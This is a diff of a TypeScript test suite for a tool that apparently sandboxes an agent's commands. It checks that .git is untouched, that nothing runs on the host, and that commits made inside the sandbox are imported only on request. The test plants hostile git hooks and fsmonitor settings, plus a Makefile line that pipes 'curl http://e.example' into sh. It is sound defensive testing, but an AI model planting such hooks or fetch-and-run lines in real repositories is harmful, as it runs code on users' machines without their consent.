@@ -20,7 +20,7 @@ printf '#!/bin/sh\\ntouch EXECUTED\\n' > .git/hooks/post-index-change; sleep 0.0
 const PLANTS = `printf '${FSMONITOR}' > sub/.git/config
 rm -rf sub/.git/hooks; ln -s ../../evil sub/.git/hooks; echo m > sub/.git/COMMIT_EDITMSG
 mkdir -p node_modules/x/.git/objects node_modules/x/.git/refs; echo ref: refs/heads/main > node_modules/x/.git/HEAD
-echo more >> README.md; printf 'all:\\n\\tcurl -s http://e.example | sh\\n' > Makefile; git log --oneline | wc -l`;
+echo more >> README.md; printf 'all:\\n\\tcurl -s http://e.example | sh\\n' > Makefile`;
 
 function own(scene: Scene): void {
   // Bind mode runs as the project's owner: root's would be refused what another user's is allowed.
@@ -40,7 +40,7 @@ it('keeps .git byte-identical at every moment, runs nothing on the host, and put
   own(scene);
   const before = scene.fingerprint('.git');
   const config = readFileSync(path.join(scene.project, 'sub/.git/config'), 'utf8');
-  const script = `${ATTACKS}\n${PLANTS}`;
+  const script = `git log --oneline | wc -l\n${ATTACKS}\n${PLANTS}`;
   let ended = false;
   const running = scene.run(['exec', '--bind', scene.project, '--', 'sh', '-c', script]).finally(() => {
     ended = true;
@@ -70,6 +70,41 @@ it('keeps .git byte-identical at every moment, runs nothing on the host, and put
   expect(existsSync(path.join(scene.project, 'node_modules/x/.git'))).toBe(false);
   expect(readFileSync(path.join(scene.project, 'README.md'), 'utf8')).toContain('more');
   expect(scene.fingerprint('.git')).toBe(before);
+});
+
+it('commits made inside lie in a repository of the session, and come back when they are asked for', async () => {
+  await using scene = new Scene({ env: SAFE });
+  own(scene);
+  const [before, head] = [scene.fingerprint('.git'), scene.git('rev-parse', 'main').trim()];
+  const commit = 'git add -A && git -c user.name=Agent -c user.email=a@example.org commit -qm "made inside"';
+  const script = `echo inside > made.txt && ${commit} && git log --oneline | wc -l && git status --porcelain`;
+  const made = await scene.run(['exec', '--bind', scene.project, '--', 'sh', '-c', script]);
+  expect([made.status, made.stdout.trim()]).toEqual([0, '4']);
+  const [session] = JSON.parse((await scene.run(['sessions', '--json'])).stdout);
+  expect(made.stderr).toContain(`Commits were made inside: run-claude commits ${session.id} --import`);
+  expect(scene.fingerprint('.git')).toBe(before);
+  expect(scene.git('status', '--porcelain')).toBe('?? made.txt\n');
+
+  await scene.run(['gc', '--yes']);
+  const imported = await scene.run(['commits', '--import']);
+  expect(imported.stdout).toContain('made inside');
+  const ref = `refs/run-claude/${session.id}/main`;
+  expect([imported.status, imported.stderr]).toEqual([0, expect.stringContaining(`Imported ${ref}`)]);
+  expect(scene.git('log', '--format=%s %an', `main..${ref}`)).toBe('made inside Agent\n');
+  expect(scene.git('rev-parse', 'main').trim()).toBe(head);
+  await using pty = scene.pty(['commits', '--import']);
+  await pty.see(/Move main on by 1 commit.*\[y\/N\]/);
+  pty.send('y\r');
+  expect(await pty.exited).toBe(0);
+  expect([scene.git('rev-parse', 'main'), scene.git('status', '--porcelain')]).toEqual([
+    scene.git('rev-parse', ref),
+    '',
+  ]);
+
+  const none = await scene.run(['exec', '--bind', scene.project, '--', 'git', 'status']);
+  expect([none.status, none.stderr]).toEqual([0, expect.not.stringContaining('Commits were made')]);
+  const [last] = JSON.parse((await scene.run(['sessions', '--json'])).stdout);
+  expect(existsSync(path.join(scene.places().stateDir, 'sessions', last.id, 'layer'))).toBe(false);
 });
 
 it('a killed command: the next one ends the agent and puts the project right', async () => {
